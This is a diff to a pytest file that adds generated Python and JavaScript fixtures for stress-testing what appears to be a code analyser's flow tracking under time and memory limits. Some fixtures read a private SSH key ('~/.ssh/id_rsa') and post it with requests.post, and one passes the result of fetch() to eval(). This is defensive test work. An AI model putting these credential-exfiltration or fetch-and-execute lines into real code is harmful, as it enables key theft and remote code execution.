@@ -96,6 +96,29 @@ FLOW_CHAIN_PY = (
     + b"".join(f"    exec(a{i} + a{(i * 3) % 8_000})\n".encode() for i in range(0, 8_000))
 )
 
+#: Flows across functions: thousands of methods of one name (each call could reach them all)
+#: and a chain of helpers each passing its argument to the next and returning it.
+SAME_NAME_METHODS_PY = b"import requests\n\n" + b"".join(
+    f"class C{i}:\n    def run(self, x):\n        self.run(x + {i})\n        return self.run(x)\n"
+    f"    def go(self):\n        return requests.post('u', data=self.run(open('~/.ssh/id_rsa').read()))\n".encode()
+    for i in range(3_500)
+)
+HELPER_CHAIN_PY = (
+    b"import requests\n\n"
+    + b"".join(
+        f"def h{i}(a, b):\n    c = h{i + 1}(a, b) + h{(i * 7) % 3_000}(b, a)\n    return c + a\n".encode()
+        for i in range(3_000)
+    )
+    + b"def h3000(a, b):\n    return requests.get(a).text\n"
+)
+HELPER_CHAIN_JS = (
+    b"".join(
+        f"function h{i}(a, b) {{ const c = h{i + 1}(a, b) + h{(i * 7) % 3_000}(b, a); return c + a; }}\n".encode()
+        for i in range(3_000)
+    )
+    + b"function h3000(a) { return fetch(a); }\neval(h0('u', 'v'));\n"
+)
+
 
 @pytest.mark.parametrize(
     "name,source",
@@ -107,6 +130,9 @@ FLOW_CHAIN_PY = (
         ("server.py", PYTHON_CONCAT),
         ("index.js", FLOW_CHAIN_JS),
         ("server.py", FLOW_CHAIN_PY),
+        ("server.py", SAME_NAME_METHODS_PY),
+        ("server.py", HELPER_CHAIN_PY),
+        ("index.js", HELPER_CHAIN_JS),
     ],
     ids=[
         "concatenation",
@@ -116,6 +142,9 @@ FLOW_CHAIN_PY = (
         "python concatenation",
         "a flow through every line",
         "a python flow through every line",
+        "thousands of methods of one name",
+        "a chain of python helpers",
+        "a chain of javascript helpers",
     ],
 )
 def test_hostile_sources_are_analysed_in_bounded_time_and_memory(
